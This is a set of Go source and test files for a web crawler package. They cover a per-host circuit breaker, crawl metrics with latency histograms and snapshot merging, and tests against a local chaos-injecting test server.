		t.Run(c.name, func(t *testing.T) {
			if got := Inaccessible(c.outcomes); got != c.want {
				t.Errorf("Inaccessible(%+v) = %v, want %v", c.outcomes, got, c.want)
			}
		})
	}
}
