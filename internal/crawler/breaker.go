package crawler

import (
	"sync"
	"time"
)

// Breaker is a per-host circuit breaker. Each host's circuit moves
// closed → open after `threshold` consecutive connection-level failures,
// sheds every request while open, and after `cooldown` admits exactly one
// half-open probe at a time: a successful probe closes the circuit, a
// failed one re-opens it for another cooldown. HTTP error statuses never
// touch the breaker — they are data, not host failures.
//
// The breaker exists so hosts that are down stay cheap: a dead host costs
// one timeout per cooldown instead of (retries+1) timeouts per fetch, and
// the shed fetches are recorded as connection failures without consuming
// the retry budget.
type Breaker struct {
	threshold int
	cooldown  time.Duration
	now       func() time.Time // injectable clock for deterministic tests

	mu    sync.Mutex
	hosts map[string]*hostBreaker
}

type breakerState uint8

const (
	stateClosed breakerState = iota
	stateOpen
	stateHalfOpen
)

type hostBreaker struct {
	state    breakerState
	fails    int
	openedAt time.Time
	probing  bool
}

// NewBreaker builds a Breaker. Non-positive arguments select the defaults
// (threshold 3, cooldown 30s).
func NewBreaker(threshold int, cooldown time.Duration) *Breaker {
	if threshold <= 0 {
		threshold = 3
	}
	if cooldown <= 0 {
		cooldown = 30 * time.Second
	}
	return &Breaker{
		threshold: threshold,
		cooldown:  cooldown,
		now:       time.Now,
		hosts:     make(map[string]*hostBreaker),
	}
}

// Allow reports whether a request to host may proceed. While the circuit is
// open it returns false until the cooldown elapses, then admits a single
// half-open probe; further requests are shed until that probe resolves via
// Success or Failure.
func (b *Breaker) Allow(host string) bool {
	b.mu.Lock()
	defer b.mu.Unlock()
	hb := b.hosts[host]
	if hb == nil {
		return true // no history: closed
	}
	switch hb.state {
	case stateClosed:
		return true
	case stateOpen:
		if b.now().Sub(hb.openedAt) < b.cooldown {
			return false
		}
		hb.state = stateHalfOpen
		hb.probing = true
		return true
	default: // half-open
		if hb.probing {
			return false
		}
		hb.probing = true
		return true
	}
}

// Success records a completed request, closing the host's circuit and
// resetting its failure streak.
func (b *Breaker) Success(host string) {
	b.mu.Lock()
	defer b.mu.Unlock()
	hb := b.hosts[host]
	if hb == nil {
		return
	}
	hb.state = stateClosed
	hb.fails = 0
	hb.probing = false
}

// Failure records a connection-level failure and reports whether it tripped
// the circuit open — either the threshold'th consecutive failure of a
// closed circuit or a failed half-open probe. Failures arriving while the
// circuit is already open (requests that passed Allow before the trip) are
// absorbed without re-counting.
func (b *Breaker) Failure(host string) (tripped bool) {
	b.mu.Lock()
	defer b.mu.Unlock()
	hb := b.hosts[host]
	if hb == nil {
		hb = &hostBreaker{}
		b.hosts[host] = hb
	}
	switch hb.state {
	case stateOpen:
		return false
	case stateHalfOpen:
		hb.state = stateOpen
		hb.openedAt = b.now()
		hb.probing = false
		return true
	default:
		hb.fails++
		if hb.fails < b.threshold {
			return false
		}
		hb.state = stateOpen
		hb.openedAt = b.now()
		return true
	}
}
