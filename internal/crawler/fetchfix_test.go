package crawler

// Regression tests for two Fetch-level bugs: context cancellation burning
// the retry schedule, and truncated bodies killing keep-alive reuse.

import (
	"context"
	"errors"
	"fmt"
	"net/http"
	"net/http/httptest"
	"net/http/httptrace"
	"sync/atomic"
	"testing"
	"time"
)

// A context cancelled mid-request is the caller giving up, not the host
// failing: Fetch must return the context error immediately, with no retry
// consumed and no further connection attempted.
func TestFetchContextCancelStopsRetrying(t *testing.T) {
	var hits atomic.Int32
	ts := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		hits.Add(1)
		<-r.Context().Done() // stall until the client hangs up
	}))
	defer ts.Close()

	c := New(Config{
		BaseURL: ts.URL, Retries: 50, Timeout: 30 * time.Second,
		Backoff: Backoff{Base: 40 * time.Millisecond},
	})
	ctx, cancel := context.WithCancel(context.Background())
	go func() {
		time.Sleep(50 * time.Millisecond)
		cancel()
	}()
	start := time.Now()
	page := c.Fetch(ctx, 0, "stalled.example")
	elapsed := time.Since(start)

	if !errors.Is(page.Err, context.Canceled) {
		t.Errorf("err = %v, want context.Canceled", page.Err)
	}
	if elapsed > 2*time.Second {
		t.Errorf("fetch took %v after cancellation; it kept retrying", elapsed)
	}
	if got := hits.Load(); got != 1 {
		t.Errorf("%d connection attempts, want 1 (cancellation must not retry)", got)
	}
	if m := c.Metrics(); m.Retries != 0 {
		t.Errorf("retries = %d, want 0: cancellation consumed the schedule", m.Retries)
	}
}

// When MaxBodyBytes truncates a page, Fetch drains a bounded remainder
// before closing so the transport sees EOF and recycles the keep-alive
// connection. Asserted via httptrace: the second fetch must reuse the
// first fetch's connection.
func TestFetchTruncatedBodyKeepsConnectionAlive(t *testing.T) {
	body := make([]byte, 8<<10)
	for i := range body {
		body[i] = 'x'
	}
	ts := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		w.Header().Set("Content-Length", fmt.Sprint(len(body)))
		_, _ = w.Write(body)
	}))
	defer ts.Close()

	c := New(Config{BaseURL: ts.URL, MaxBodyBytes: 1024})
	var reused atomic.Bool
	ctx := httptrace.WithClientTrace(context.Background(), &httptrace.ClientTrace{
		GotConn: func(info httptrace.GotConnInfo) { reused.Store(info.Reused) },
	})
	for i := 0; i < 2; i++ {
		page := c.Fetch(ctx, 0, "big.example")
		if page.Err != nil {
			t.Fatalf("fetch %d: %v", i, page.Err)
		}
		if len(page.Body) != 1024 {
			t.Fatalf("fetch %d: body %d bytes, want the 1024-byte cap", i, len(page.Body))
		}
	}
	if !reused.Load() {
		t.Error("second fetch dialed a fresh connection; the truncated body was not drained")
	}
}
