package crawler

import (
	"time"

	"clientres/internal/metrics"
)

// Metrics aggregates crawl counters over a Crawler's lifetime. Every field
// updates atomically from the worker goroutines; Snapshot folds them into a
// plain struct for reporting. The counter and histogram primitives live in
// internal/metrics, shared with the online audit service.
type Metrics struct {
	attempts        metrics.Counter   // HTTP requests issued
	retries         metrics.Counter   // attempts beyond the first per fetch
	successes       metrics.Counter   // fetches that returned a status and body
	connFailures    metrics.Counter   // attempts that failed at the connection level
	breakerTrips    metrics.Counter   // circuit transitions to open
	breakerShed     metrics.Counter   // attempts refused by an open circuit
	budgetExhausted metrics.Counter   // retries forgone because the week's budget ran out
	bytes           metrics.Counter   // body bytes read (post-truncation)
	lat             metrics.Histogram // successful-fetch latency
}

// MetricsSnapshot is a point-in-time copy of a Crawler's counters.
type MetricsSnapshot struct {
	Attempts, Retries, Successes, ConnFailures int64
	BreakerTrips, BreakerShed                  int64
	BudgetExhausted                            int64
	Bytes                                      int64
	// FetchP50 / FetchP99 are latency quantiles of successful fetches
	// (request start through body read), resolved to power-of-two
	// microsecond buckets. They are derived from Latency, never summed:
	// Merge re-resolves them from the combined buckets.
	FetchP50, FetchP99 time.Duration
	// Latency carries the raw histogram buckets so snapshots from
	// different workers merge exactly (bucket-wise addition) instead of
	// averaging already-resolved quantiles.
	Latency [metrics.NumBuckets]int64
}

// Snapshot returns the current counters. Concurrent updates may land
// between field reads; each individual counter is exact.
func (m *Metrics) Snapshot() MetricsSnapshot {
	buckets := m.lat.Buckets()
	return MetricsSnapshot{
		Attempts:        m.attempts.Load(),
		Retries:         m.retries.Load(),
		Successes:       m.successes.Load(),
		ConnFailures:    m.connFailures.Load(),
		BreakerTrips:    m.breakerTrips.Load(),
		BreakerShed:     m.breakerShed.Load(),
		BudgetExhausted: m.budgetExhausted.Load(),
		Bytes:           m.bytes.Load(),
		FetchP50:        metrics.QuantileOf(buckets, 0.50),
		FetchP99:        metrics.QuantileOf(buckets, 0.99),
		Latency:         buckets,
	}
}

// Merge folds another snapshot into this one: counters sum, latency
// histograms add bucket-wise, and the quantiles are re-resolved from the
// combined buckets — so merging N per-worker snapshots equals the
// snapshot one crawler would have produced doing all the work itself.
func (s *MetricsSnapshot) Merge(o MetricsSnapshot) {
	s.Attempts += o.Attempts
	s.Retries += o.Retries
	s.Successes += o.Successes
	s.ConnFailures += o.ConnFailures
	s.BreakerTrips += o.BreakerTrips
	s.BreakerShed += o.BreakerShed
	s.BudgetExhausted += o.BudgetExhausted
	s.Bytes += o.Bytes
	for i := range s.Latency {
		s.Latency[i] += o.Latency[i]
	}
	s.FetchP50 = metrics.QuantileOf(s.Latency, 0.50)
	s.FetchP99 = metrics.QuantileOf(s.Latency, 0.99)
}
