package crawler

import (
	"math/bits"
	"sync/atomic"
	"time"
)

// Metrics aggregates crawl counters over a Crawler's lifetime. Every field
// updates atomically from the worker goroutines; Snapshot folds them into a
// plain struct for reporting.
type Metrics struct {
	attempts        atomic.Int64 // HTTP requests issued
	retries         atomic.Int64 // attempts beyond the first per fetch
	successes       atomic.Int64 // fetches that returned a status and body
	connFailures    atomic.Int64 // attempts that failed at the connection level
	breakerTrips    atomic.Int64 // circuit transitions to open
	breakerShed     atomic.Int64 // attempts refused by an open circuit
	budgetExhausted atomic.Int64 // retries forgone because the week's budget ran out
	bytes           atomic.Int64 // body bytes read (post-truncation)
	lat             latencyHist  // successful-fetch latency
}

// MetricsSnapshot is a point-in-time copy of a Crawler's counters.
type MetricsSnapshot struct {
	Attempts, Retries, Successes, ConnFailures int64
	BreakerTrips, BreakerShed                  int64
	BudgetExhausted                            int64
	Bytes                                      int64
	// FetchP50 / FetchP99 are latency quantiles of successful fetches
	// (request start through body read), resolved to power-of-two
	// microsecond buckets.
	FetchP50, FetchP99 time.Duration
}

// Snapshot returns the current counters. Concurrent updates may land
// between field reads; each individual counter is exact.
func (m *Metrics) Snapshot() MetricsSnapshot {
	return MetricsSnapshot{
		Attempts:        m.attempts.Load(),
		Retries:         m.retries.Load(),
		Successes:       m.successes.Load(),
		ConnFailures:    m.connFailures.Load(),
		BreakerTrips:    m.breakerTrips.Load(),
		BreakerShed:     m.breakerShed.Load(),
		BudgetExhausted: m.budgetExhausted.Load(),
		Bytes:           m.bytes.Load(),
		FetchP50:        m.lat.quantile(0.50),
		FetchP99:        m.lat.quantile(0.99),
	}
}

// latencyHist is a lock-free histogram with power-of-two microsecond
// buckets: bucket i counts latencies in [2^(i-1), 2^i) µs, so quantiles
// resolve to within a factor of two — plenty for p50/p99 trend lines at
// zero allocation on the hot path.
type latencyHist struct {
	buckets [34]atomic.Int64 // 2^33 µs ≈ 2.4h caps the top bucket
}

func (h *latencyHist) record(d time.Duration) {
	us := d.Microseconds()
	if us < 0 {
		us = 0
	}
	i := bits.Len64(uint64(us))
	if i >= len(h.buckets) {
		i = len(h.buckets) - 1
	}
	h.buckets[i].Add(1)
}

// quantile returns the upper bound of the bucket where the q-quantile
// falls, or 0 when the histogram is empty.
func (h *latencyHist) quantile(q float64) time.Duration {
	var total int64
	for i := range h.buckets {
		total += h.buckets[i].Load()
	}
	if total == 0 {
		return 0
	}
	rank := int64(q * float64(total))
	if rank >= total {
		rank = total - 1
	}
	var seen int64
	for i := range h.buckets {
		seen += h.buckets[i].Load()
		if seen > rank {
			return time.Duration(uint64(1)<<uint(i)) * time.Microsecond
		}
	}
	return time.Duration(uint64(1)<<uint(len(h.buckets)-1)) * time.Microsecond
}
