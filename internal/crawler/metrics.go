package crawler

import (
	"time"

	"clientres/internal/metrics"
)

// Metrics aggregates crawl counters over a Crawler's lifetime. Every field
// updates atomically from the worker goroutines; Snapshot folds them into a
// plain struct for reporting. The counter and histogram primitives live in
// internal/metrics, shared with the online audit service.
type Metrics struct {
	attempts        metrics.Counter   // HTTP requests issued
	retries         metrics.Counter   // attempts beyond the first per fetch
	successes       metrics.Counter   // fetches that returned a status and body
	connFailures    metrics.Counter   // attempts that failed at the connection level
	breakerTrips    metrics.Counter   // circuit transitions to open
	breakerShed     metrics.Counter   // attempts refused by an open circuit
	budgetExhausted metrics.Counter   // retries forgone because the week's budget ran out
	bytes           metrics.Counter   // body bytes read (post-truncation)
	lat             metrics.Histogram // successful-fetch latency
}

// MetricsSnapshot is a point-in-time copy of a Crawler's counters.
type MetricsSnapshot struct {
	Attempts, Retries, Successes, ConnFailures int64
	BreakerTrips, BreakerShed                  int64
	BudgetExhausted                            int64
	Bytes                                      int64
	// FetchP50 / FetchP99 are latency quantiles of successful fetches
	// (request start through body read), resolved to power-of-two
	// microsecond buckets.
	FetchP50, FetchP99 time.Duration
}

// Snapshot returns the current counters. Concurrent updates may land
// between field reads; each individual counter is exact.
func (m *Metrics) Snapshot() MetricsSnapshot {
	return MetricsSnapshot{
		Attempts:        m.attempts.Load(),
		Retries:         m.retries.Load(),
		Successes:       m.successes.Load(),
		ConnFailures:    m.connFailures.Load(),
		BreakerTrips:    m.breakerTrips.Load(),
		BreakerShed:     m.breakerShed.Load(),
		BudgetExhausted: m.budgetExhausted.Load(),
		Bytes:           m.bytes.Load(),
		FetchP50:        m.lat.Quantile(0.50),
		FetchP99:        m.lat.Quantile(0.99),
	}
}
