package crawler

// Integration tests for the resilience layer against the chaos-mode web
// server: counters reconciled against the deterministic fault schedule,
// breaker behavior over multi-week crawls reconciled against ground truth,
// and the weekly retry budget under global degradation. All of it runs
// under -race in CI (scripts/check.sh), and the chaos test re-asserts
// CrawlWeek's single-goroutine callback contract while faults fly.

import (
	"context"
	"errors"
	"net/http/httptest"
	"sync/atomic"
	"testing"
	"time"

	"clientres/internal/webgen"
	"clientres/internal/webserver"
)

// TestChaosCrawlWeekCounters crawls one week of a chaos-injected ecosystem
// with retries disabled and reconciles every counter against the schedule:
// each alive-but-faulted (domain, week) and each dead domain must cost
// exactly one connection failure, everything else exactly one success.
// Fault parameters are chosen so every fault type defeats the client
// timeout: Stall (600ms) and Drip (300ms) both exceed the 150ms budget,
// and reset/truncate kill the body unconditionally.
func TestChaosCrawlWeekCounters(t *testing.T) {
	eco := webgen.New(webgen.Config{Domains: 150, Seed: 11})
	ws := webserver.New(eco)
	chaos := &webserver.Chaos{Seed: 7, Rate: 0.5, Stall: 600 * time.Millisecond, Drip: 300 * time.Millisecond}
	ws.Chaos = chaos
	srv := httptest.NewServer(ws)
	defer srv.Close()

	const week = 2
	var wantFail, wantOK, wantFaulted int
	domains := make([]string, len(eco.Sites))
	for i := range eco.Sites {
		domains[i] = eco.Sites[i].Domain.Name
		alive := eco.Truth(i, week).Status > 0
		faulted := chaos.FaultFor(week, domains[i]) != webserver.FaultNone
		switch {
		case !alive:
			wantFail++
		case faulted:
			wantFail++
			wantFaulted++
		default:
			wantOK++
		}
	}
	if wantFaulted == 0 || wantOK == 0 {
		t.Fatalf("degenerate schedule: %d faulted, %d ok", wantFaulted, wantOK)
	}

	c := New(Config{
		BaseURL: srv.URL, Workers: 16, Retries: NoRetries,
		Timeout: 150 * time.Millisecond,
	})
	var inCallback atomic.Int32
	gotFail, gotOK := 0, 0 // deliberately unsynchronized: the contract test
	err := c.CrawlWeek(context.Background(), week, domains, func(p Page) {
		if !inCallback.CompareAndSwap(0, 1) {
			t.Error("callback invoked concurrently with itself under chaos")
		}
		if p.Err != nil {
			gotFail++
		} else {
			gotOK++
		}
		inCallback.Store(0)
	})
	if err != nil {
		t.Fatal(err)
	}

	if gotFail != wantFail || gotOK != wantOK {
		t.Errorf("outcomes: %d failed / %d ok, want %d / %d", gotFail, gotOK, wantFail, wantOK)
	}
	m := c.Metrics()
	if m.Attempts != int64(len(domains)) {
		t.Errorf("attempts = %d, want %d (one per domain with retries off)", m.Attempts, len(domains))
	}
	if m.ConnFailures != int64(wantFail) {
		t.Errorf("conn failures = %d, want %d", m.ConnFailures, wantFail)
	}
	if m.Successes != int64(wantOK) {
		t.Errorf("successes = %d, want %d", m.Successes, wantOK)
	}
	if got := chaos.InjectedTotal(); got != int64(wantFaulted) {
		t.Errorf("server injected %d faults, schedule says %d", got, wantFaulted)
	}
	if m.Bytes <= 0 || m.FetchP50 <= 0 || m.FetchP99 < m.FetchP50 {
		t.Errorf("latency/byte counters implausible: bytes=%d p50=%v p99=%v", m.Bytes, m.FetchP50, m.FetchP99)
	}
}

// TestBreakerCountersAcrossWeeks crawls several consecutive weeks with the
// resilience layer on and a cooldown longer than the test, then replays the
// breaker's rules against ground truth: a host opens on its third
// consecutive dead week and sheds every week after, and the crawler's
// trip/shed/failure/success counters must match that simulation exactly.
func TestBreakerCountersAcrossWeeks(t *testing.T) {
	const weeks, threshold = 6, 3
	eco := webgen.New(webgen.Config{Domains: 200, Weeks: 30, Seed: 17})
	srv := httptest.NewServer(webserver.New(eco))
	defer srv.Close()

	var wantTrips, wantShed, wantFail, wantOK int
	for i := range eco.Sites {
		fails, open := 0, false
		for w := 0; w < weeks; w++ {
			if open {
				wantShed++
				wantFail++ // shed fetches still record as connection failures
				continue
			}
			if eco.Truth(i, w).Status == 0 {
				wantFail++
				fails++
				if fails == threshold {
					wantTrips++
					open = true
				}
			} else {
				wantOK++
				fails = 0
			}
		}
	}
	if wantTrips == 0 {
		t.Fatal("no domain is dead for 3+ consecutive weeks in this seed; pick another")
	}

	c := New(Config{
		BaseURL: srv.URL, Workers: 8, Retries: NoRetries,
		Backoff: Backoff{Base: time.Millisecond, Max: 2 * time.Millisecond},
		Resilience: Resilience{
			Enabled:          true,
			MinGap:           time.Millisecond,
			BreakerThreshold: threshold,
			BreakerCooldown:  time.Hour, // never half-opens inside the test
			RetryBudget:      -1,
		},
	})
	domains := make([]string, len(eco.Sites))
	for i := range eco.Sites {
		domains[i] = eco.Sites[i].Domain.Name
	}
	pageFails := 0
	for w := 0; w < weeks; w++ {
		if err := c.CrawlWeek(context.Background(), w, domains, func(p Page) {
			if p.Err != nil {
				pageFails++
			}
		}); err != nil {
			t.Fatal(err)
		}
	}

	m := c.Metrics()
	if m.BreakerTrips != int64(wantTrips) {
		t.Errorf("breaker trips = %d, want %d", m.BreakerTrips, wantTrips)
	}
	if m.BreakerShed != int64(wantShed) {
		t.Errorf("breaker shed = %d, want %d", m.BreakerShed, wantShed)
	}
	if m.Successes != int64(wantOK) {
		t.Errorf("successes = %d, want %d", m.Successes, wantOK)
	}
	// Shed fetches never reach the wire: actual connection failures are the
	// dead-week fetches that were attempted, and the page-level failure
	// count seen by the caller includes both.
	if m.ConnFailures != int64(wantFail-wantShed) {
		t.Errorf("wire-level failures = %d, want %d", m.ConnFailures, wantFail-wantShed)
	}
	if pageFails != wantFail {
		t.Errorf("page-level failures = %d, want %d", pageFails, wantFail)
	}
	if m.Attempts != int64(wantOK+wantFail-wantShed) {
		t.Errorf("attempts = %d, want %d", m.Attempts, wantOK+wantFail-wantShed)
	}
}

// A shed fetch's error wraps ErrHostSuspended, so callers can tell breaker
// sheds from wire failures if they care (observations treat both as
// connection failures).
func TestBreakerShedErrorIsRecognizable(t *testing.T) {
	base, _ := startRefusingServer(t)
	c := New(Config{
		BaseURL: base, Retries: NoRetries, Timeout: time.Second,
		Backoff:    Backoff{Base: time.Millisecond},
		Resilience: Resilience{Enabled: true, BreakerThreshold: 1, BreakerCooldown: time.Hour},
	})
	if page := c.Fetch(context.Background(), 0, "down.example"); page.Err == nil {
		t.Fatal("refused connection should error")
	}
	page := c.Fetch(context.Background(), 0, "down.example")
	if !errors.Is(page.Err, ErrHostSuspended) {
		t.Errorf("second fetch should be shed by the breaker, got %v", page.Err)
	}
	if page.Status != 0 || page.Body != "" {
		t.Errorf("shed page must look like a connection failure: status=%d body=%q", page.Status, page.Body)
	}
}

// TestRetryBudgetSharedAcrossWeek crawls a globally-dead week with a small
// shared budget: total retries stop at the budget instead of multiplying
// per domain, and the shortfall is visible in the counters.
func TestRetryBudgetSharedAcrossWeek(t *testing.T) {
	base, attempts := startRefusingServer(t)
	const nDomains, perFetchRetries, budget = 20, 3, 5
	domains := make([]string, nDomains)
	for i := range domains {
		domains[i] = "dead" + string(rune('a'+i)) + ".example"
	}
	c := New(Config{
		BaseURL: base, Workers: 4, Retries: perFetchRetries, Timeout: time.Second,
		Backoff: Backoff{Base: time.Millisecond, Max: 2 * time.Millisecond},
		Resilience: Resilience{
			Enabled:          true,
			MinGap:           time.Microsecond,
			BreakerThreshold: 1000, // keep the breaker out of this test
			RetryBudget:      budget,
		},
	})
	if err := c.CrawlWeek(context.Background(), 0, domains, func(Page) {}); err != nil {
		t.Fatal(err)
	}
	m := c.Metrics()
	if m.Retries != budget {
		t.Errorf("retries = %d, want exactly the budget %d", m.Retries, budget)
	}
	wantAttempts := int64(nDomains + budget)
	if m.Attempts != wantAttempts {
		t.Errorf("attempts = %d, want %d (one per domain plus the budget)", m.Attempts, wantAttempts)
	}
	if got := int64(attempts.Load()); got != wantAttempts {
		t.Errorf("server saw %d connections, want %d", got, wantAttempts)
	}
	if m.BudgetExhausted == 0 {
		t.Error("budget exhaustion went uncounted")
	}
	// A later, healthier week gets a fresh budget.
	if err := c.CrawlWeek(context.Background(), 1, domains[:2], func(Page) {}); err != nil {
		t.Fatal(err)
	}
	if m2 := c.Metrics(); m2.Retries != budget+budget {
		t.Errorf("week 2 retries = %d, want a refreshed budget spent (%d)", m2.Retries-budget, budget)
	}
}
