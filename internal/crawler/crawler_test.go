package crawler

import (
	"context"
	"net/http/httptest"
	"strings"
	"sync"
	"testing"
	"time"

	"clientres/internal/webgen"
	"clientres/internal/webserver"
)

func startServer(t *testing.T, n int) (*webgen.Ecosystem, *httptest.Server) {
	t.Helper()
	eco := webgen.New(webgen.Config{Domains: n, Seed: 5})
	srv := httptest.NewServer(webserver.New(eco))
	t.Cleanup(srv.Close)
	return eco, srv
}

func TestFetchAccessibleSite(t *testing.T) {
	eco, srv := startServer(t, 100)
	c := New(Config{BaseURL: srv.URL, Timeout: 5 * time.Second})
	for i := range eco.Sites {
		tr := eco.Truth(i, 0)
		if !tr.Accessible {
			continue
		}
		page := c.Fetch(context.Background(), 0, eco.Sites[i].Domain.Name)
		if page.Err != nil || page.Status != 200 {
			t.Fatalf("fetch %s: status %d err %v", page.Domain, page.Status, page.Err)
		}
		if !strings.Contains(page.Body, "<!DOCTYPE html>") {
			t.Fatalf("fetch %s: body does not look like a page", page.Domain)
		}
		return // one healthy site is enough here
	}
	t.Fatal("no accessible site found")
}

func TestFetchDeadSiteFailsAtConnectionLevel(t *testing.T) {
	eco, srv := startServer(t, 300)
	c := New(Config{BaseURL: srv.URL, Timeout: 2 * time.Second})
	for i := range eco.Sites {
		s := eco.Sites[i]
		if s.DeadFromWeek < 0 {
			continue
		}
		page := c.Fetch(context.Background(), s.DeadFromWeek, s.Domain.Name)
		if page.Err == nil {
			t.Fatalf("dead site %s returned status %d without error", s.Domain.Name, page.Status)
		}
		if page.Status != 0 {
			t.Fatalf("dead site status = %d, want 0", page.Status)
		}
		return
	}
	t.Skip("no dead site in sample")
}

func TestFetchTransientStatusIsData(t *testing.T) {
	eco, srv := startServer(t, 400)
	c := New(Config{BaseURL: srv.URL})
	for i := range eco.Sites {
		tr := eco.Truth(i, 7)
		if tr.Status >= 400 {
			page := c.Fetch(context.Background(), 7, eco.Sites[i].Domain.Name)
			if page.Err != nil {
				t.Fatalf("HTTP error page should not be a fetch error: %v", page.Err)
			}
			if page.Status != tr.Status {
				t.Fatalf("status = %d, want %d", page.Status, tr.Status)
			}
			return
		}
	}
	t.Skip("no transient failure in sample")
}

func TestCrawlWeekVisitsEveryDomain(t *testing.T) {
	eco, srv := startServer(t, 250)
	c := New(Config{BaseURL: srv.URL, Workers: 16})
	domains := make([]string, len(eco.Sites))
	for i, s := range eco.Sites {
		domains[i] = s.Domain.Name
	}
	var mu sync.Mutex
	seen := map[string]Page{}
	err := c.CrawlWeek(context.Background(), 3, domains, func(p Page) {
		mu.Lock()
		seen[p.Domain] = p
		mu.Unlock()
	})
	if err != nil {
		t.Fatal(err)
	}
	if len(seen) != len(domains) {
		t.Fatalf("visited %d of %d domains", len(seen), len(domains))
	}
	// Spot-check consistency with ground truth.
	okCount := 0
	for i := range eco.Sites {
		tr := eco.Truth(i, 3)
		p := seen[eco.Sites[i].Domain.Name]
		if tr.Accessible {
			if p.Status != 200 || p.Err != nil {
				t.Errorf("%s: accessible but crawl got status %d err %v", p.Domain, p.Status, p.Err)
			}
			okCount++
		}
	}
	if okCount == 0 {
		t.Fatal("no accessible domains in week 3")
	}
}

func TestCrawlWeekContextCancel(t *testing.T) {
	eco, srv := startServer(t, 50)
	c := New(Config{BaseURL: srv.URL, Workers: 2})
	ctx, cancel := context.WithCancel(context.Background())
	cancel()
	domains := []string{eco.Sites[0].Domain.Name}
	err := c.CrawlWeek(ctx, 0, domains, func(Page) {})
	if err == nil {
		t.Error("cancelled context should surface an error")
	}
}

func TestOutcomeErrorOrEmpty(t *testing.T) {
	cases := []struct {
		o    Outcome
		want bool
	}{
		{Outcome{Status: 200, Bytes: 2048}, false},
		{Outcome{Status: 200, Bytes: 399}, true},
		{Outcome{Status: 404, Bytes: 2048}, true},
		{Outcome{Status: 0, Bytes: 0}, true},
		{Outcome{Status: 200, Bytes: 400}, false},
	}
	for _, c := range cases {
		if got := c.o.ErrorOrEmpty(); got != c.want {
			t.Errorf("ErrorOrEmpty(%+v) = %v, want %v", c.o, got, c.want)
		}
	}
}

func TestInaccessibleFilter(t *testing.T) {
	healthy := Outcome{Status: 200, Bytes: 1000}
	broken := Outcome{Status: 404, Bytes: 50}
	cases := []struct {
		outcomes []Outcome
		want     bool
	}{
		{[]Outcome{broken, broken, broken, broken}, true},
		{[]Outcome{broken, broken, healthy, broken}, false}, // one healthy week saves it
		{[]Outcome{healthy, healthy, healthy, healthy}, false},
		{[]Outcome{broken, broken}, true}, // absent from the last month
		{nil, true},
	}
	for i, c := range cases {
		if got := Inaccessible(c.outcomes); got != c.want {
			t.Errorf("case %d: Inaccessible = %v, want %v", i, got, c.want)
		}
	}
}

func TestFilterInaccessible(t *testing.T) {
	healthy := Outcome{Status: 200, Bytes: 1000}
	broken := Outcome{Status: 503, Bytes: 30}
	byDomain := map[string][]Outcome{
		"alive.com": {healthy, healthy, broken, healthy},
		"gone.com":  {broken, broken, broken, broken},
		"flaky.com": {broken, healthy, broken, broken},
	}
	pruned := FilterInaccessible(byDomain)
	if !pruned["gone.com"] || pruned["alive.com"] || pruned["flaky.com"] {
		t.Errorf("pruned = %v", pruned)
	}
}

func TestPrunedRateMatchesPaper(t *testing.T) {
	// End-to-end accessibility: crawl the last four weeks of a small
	// ecosystem, apply the paper's filter, and expect roughly the paper's
	// ~78 % retention.
	eco, srv := startServer(t, 400)
	c := New(Config{BaseURL: srv.URL, Workers: 32})
	byDomain := map[string][]Outcome{}
	lastWeeks := []int{eco.Cfg.Weeks - 4, eco.Cfg.Weeks - 3, eco.Cfg.Weeks - 2, eco.Cfg.Weeks - 1}
	domains := make([]string, len(eco.Sites))
	for i, s := range eco.Sites {
		domains[i] = s.Domain.Name
	}
	var mu sync.Mutex
	for _, w := range lastWeeks {
		err := c.CrawlWeek(context.Background(), w, domains, func(p Page) {
			mu.Lock()
			byDomain[p.Domain] = append(byDomain[p.Domain], Outcome{Status: p.Status, Bytes: len(p.Body)})
			mu.Unlock()
		})
		if err != nil {
			t.Fatal(err)
		}
	}
	pruned := FilterInaccessible(byDomain)
	frac := 1 - float64(len(pruned))/float64(len(domains))
	if frac < 0.60 || frac > 0.92 {
		t.Errorf("retention after filter = %.3f, want ~0.78", frac)
	}
}
