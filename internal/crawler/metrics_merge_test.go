package crawler

import (
	"context"
	"math/rand"
	"net/http"
	"net/http/httptest"
	"reflect"
	"sync/atomic"
	"testing"
	"time"

	"clientres/internal/metrics"
	"clientres/internal/webgen"
	"clientres/internal/webserver"
)

// randomSnapshot fabricates a snapshot with every counter populated and
// quantiles consistent with its buckets, the invariant Merge maintains.
func randomSnapshot(r *rand.Rand) MetricsSnapshot {
	s := MetricsSnapshot{
		Attempts:        int64(r.Intn(1000)),
		Retries:         int64(r.Intn(100)),
		Successes:       int64(r.Intn(900)),
		ConnFailures:    int64(r.Intn(50)),
		BreakerTrips:    int64(r.Intn(10)),
		BreakerShed:     int64(r.Intn(20)),
		BudgetExhausted: int64(r.Intn(5)),
		Bytes:           int64(r.Intn(1 << 20)),
	}
	for i := 0; i < 5+r.Intn(20); i++ {
		s.Latency[r.Intn(metrics.NumBuckets)] += int64(1 + r.Intn(40))
	}
	s.FetchP50 = metrics.QuantileOf(s.Latency, 0.50)
	s.FetchP99 = metrics.QuantileOf(s.Latency, 0.99)
	return s
}

// Merge-equivalence property: splitting a set of snapshots into any
// grouping and merging group-wise equals merging them all into one —
// order and association don't matter (the PR 1 collector-suite property,
// applied to crawl metrics).
func TestMetricsSnapshotMergeEquivalence(t *testing.T) {
	r := rand.New(rand.NewSource(11))
	for trial := 0; trial < 50; trial++ {
		n := 2 + r.Intn(6)
		parts := make([]MetricsSnapshot, n)
		for i := range parts {
			parts[i] = randomSnapshot(r)
		}

		var all MetricsSnapshot
		for _, p := range parts {
			all.Merge(p)
		}

		// Random split point, merge each half, then merge the halves.
		cut := 1 + r.Intn(n-1)
		var left, right MetricsSnapshot
		for _, p := range parts[:cut] {
			left.Merge(p)
		}
		for _, p := range parts[cut:] {
			right.Merge(p)
		}
		left.Merge(right)
		if !reflect.DeepEqual(all, left) {
			t.Fatalf("trial %d: grouped merge diverges\n all: %+v\nsplit: %+v", trial, all, left)
		}

		// Reversed order.
		var rev MetricsSnapshot
		for i := n - 1; i >= 0; i-- {
			rev.Merge(parts[i])
		}
		if !reflect.DeepEqual(all, rev) {
			t.Fatalf("trial %d: reversed merge diverges", trial)
		}
	}
}

// Merging a snapshot into a zero value must reproduce it exactly —
// including the quantiles re-resolved from buckets.
func TestMetricsSnapshotMergeIdentity(t *testing.T) {
	r := rand.New(rand.NewSource(3))
	s := randomSnapshot(r)
	var z MetricsSnapshot
	z.Merge(s)
	if !reflect.DeepEqual(z, s) {
		t.Fatalf("zero.Merge(s) != s:\n got %+v\nwant %+v", z, s)
	}
}

